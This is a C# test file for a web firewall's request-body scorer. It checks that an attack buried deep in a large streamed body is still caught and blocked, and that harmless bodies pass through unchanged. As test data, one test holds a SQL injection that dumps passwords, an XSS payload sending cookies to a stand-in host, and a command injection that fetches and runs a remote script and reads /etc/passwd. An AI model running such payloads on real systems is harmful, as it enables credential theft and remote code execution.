using System.Globalization;
using System.Text;
using Microsoft.AspNetCore.Http;
using Shouldly;
using Weir.AspNetCore;
using Weir.Http;
using Xunit;

namespace Weir.Server.Tests.Gateway;

/// <summary>What is read, and what of it is scored, of a body that streams and is far longer than the prefix.</summary>
public sealed class LongBodyTests
{
    private const int Length = 2 * 1024 * 1024;
    private const int Places = 20;

    private static readonly GuardRules s_rules = new() { Block = Severity.High };
    private static readonly Lazy<RequestScorer> s_model = new(() => new RequestScorer(HttpScorer.Load(ShippedModel.Path), Encoding.Latin1));

    private static readonly string[] s_words =
        "the of and a to in is that for it as was with be by on not he his but at are this have from or had an they which one you were all her she there would their we him been has when who will no more if out so up said what its about than into them can only other time new some could these two may first then do any like my now over such our man me even most made after also did many off before must well back through years much where your way down should because long each just state those people too mr how little good world make very year still see own work men day get here old life both between being under three never know same last another while us might great go come since against right came take used himself few house use place during high without again home around small however found mrs part school thought went say general once upon every left war don't it's I'm O'Brien well-known re-use e.g. i.e. 1999 20 3.5 (perhaps) \"quoted\" 50% A&B x/y C# #7 [1]"
            .Split(' ');

    [Theory]
    [InlineData("prose")]
    [InlineData("json")]
    [InlineData("form")]
    [InlineData("base64")]
    public async Task Read_OneAttackFarBehindThePrefix_IsScored(string kind)
    {
        // About sixty bytes each.
        string[] attacks =
        [
            "1' UNION SELECT username, password FROM users WHERE '1'='1' --",
            "<img src=x onerror=\"fetch('//x.example/?c='+document.cookie)\">",
            "; wget http://x.example/a.sh -O /tmp/a; sh /tmp/a; cat /etc/passwd",
        ];
        foreach (string attack in attacks)
        {
            byte[] mark = Encoding.ASCII.GetBytes(Written(kind, attack));
            var planted = new RequestScorer(
                (scoped in view, _) => view.Body.IndexOf(mark) < 0 ? default : new HttpVerdict { Score = 1, Severity = Severity.Critical },
                (scoped in _, _, _) => [],
                Encoding.Latin1);
            for (int seed = 0; seed < Places; seed++)
            {
                (await ReadAsync(kind, Body(kind, attack, new Random(seed)), planted)).Blocked.ShouldBeTrue($"{attack}, seed {seed}");
            }
        }
    }

    [Theory]
    [InlineData("prose")]
    [InlineData("json")]
    [InlineData("form")]
    [InlineData("base64")]
    public async Task Read_HarmlessBody_IsNeitherBlockedNorCalledBroken(string kind)
    {
        for (int seed = 0; seed < Places; seed++)
        {
            var state = await ReadAsync(kind, Body(kind, "", new Random(seed)), s_model.Value);

            state.Blocked.ShouldBeFalse();
            (state.Verdict.Flags & (VerdictFlags.BrokenBody | VerdictFlags.ContentTypeMismatch)).ShouldBe(VerdictFlags.None);
        }
    }

    [Fact]
    public async Task Read_BodyInSmallReads_ArrivesUnchanged()
    {
        byte[] body = Body("json", "", new Random(1));
        using var arrived = new MemoryStream();
        await using var stream = Stream(new MemoryStream(body), "json", PlantedScorer.Create(), new RequestState("id", s_rules));
        byte[] buffer = new byte[7919];
        for (int count; (count = await stream.ReadAsync(buffer, TestContext.Current.CancellationToken)) > 0;)
        {
            arrived.Write(buffer, 0, count);
        }

        arrived.ToArray().AsSpan().SequenceEqual(body).ShouldBeTrue();
    }

    private static async Task<RequestState> ReadAsync(string kind, byte[] body, RequestScorer scorer)
    {
        var state = new RequestState("id", s_rules);
        await using var stream = Stream(new MemoryStream(body), kind, scorer, state);
        try
        {
            await stream.CopyToAsync(System.IO.Stream.Null, TestContext.Current.CancellationToken);
        }
        catch (BadHttpRequestException) when (state.Blocked)
        {
        }

        return state;
    }

    private static ScoredBody Stream(Stream inner, string kind, RequestScorer scorer, RequestState state)
    {
        var context = new DefaultHttpContext();
        context.Request.ContentType = kind switch { "json" => "application/json", "form" => "application/x-www-form-urlencoded", _ => "text/plain" };
        return new ScoredBody(inner, scorer, state, context.Request, HttpScorer.DefaultLimit, default);
    }

    private static string Written(string kind, string text) => kind switch
    {
        "json" => text.Replace("\\", "\\\\", StringComparison.Ordinal).Replace("\"", "\\\"", StringComparison.Ordinal),
        "form" => Uri.EscapeDataString(text).Replace("%20", "+", StringComparison.Ordinal),
        _ => text,
    };

    /// <summary>Two megabytes with the attack somewhere behind the prefix, and not at the end.</summary>
    private static byte[] Body(string kind, string attack, Random random)
    {
        var text = new StringBuilder(kind == "json" ? "[" : "", Length + 4096);
        int at = random.Next(2 * HttpScorer.DefaultLimit, Length - HttpScorer.DefaultLimit);
        while (text.Length < Length)
        {
            bool now = text.Length >= at && attack.Length > 0;
            at = now ? int.MaxValue : at;
            string payload = now ? attack : kind == "base64" ? "" : Sentence(random);
            _ = kind switch
            {
                "prose" => text.Append(payload).Append(' '),
                "json" => text.Append(text.Length > 1 ? "," : "").Append(CultureInfo.InvariantCulture, $"{{\"id\":{random.Next(100_000)},\"text\":\"{Written(kind, payload)}\",\"tags\":[\"a\",\"b-{random.Next(10)}\"],\"price\":{random.Next(100)}.50,\"ok\":true,\"next\":null}}"),
                "form" => text.Append(text.Length > 0 ? "&" : "").Append(CultureInfo.InvariantCulture, $"field{random.Next(100)}={Written(kind, payload)}"),
                _ => text.Append(Noise(random)).Append(payload),
            };
        }

        return Encoding.ASCII.GetBytes(text.Append(kind == "json" ? "]" : "").ToString());
    }

    private static string Noise(Random random)
    {
        byte[] bytes = new byte[random.Next(30, 300)];
        random.NextBytes(bytes);
        return Convert.ToBase64String(bytes);
    }

    private static string Sentence(Random random)
    {
        var sentence = new StringBuilder();
        for (int i = random.Next(4, 24); i >= 0; i--)
        {
            sentence.Append(s_words[random.Next(s_words.Length)]).Append(i == 0 ? "." : random.Next(8) == 0 ? ", " : " ");
        }

        return sentence.ToString();
    }
}
